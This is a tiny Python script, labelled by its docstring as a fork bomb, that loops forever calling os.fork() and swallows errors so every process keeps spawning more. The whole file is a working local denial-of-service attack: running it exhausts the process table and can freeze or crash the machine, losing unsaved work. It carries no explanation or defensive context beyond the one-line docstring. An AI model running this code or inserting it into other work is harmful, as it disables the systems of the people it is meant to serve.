"""A fork bomb: every process starts more, as fast as it can."""

# %% own
import os

while True:
    try:
        os.fork()
    except OSError:
        continue
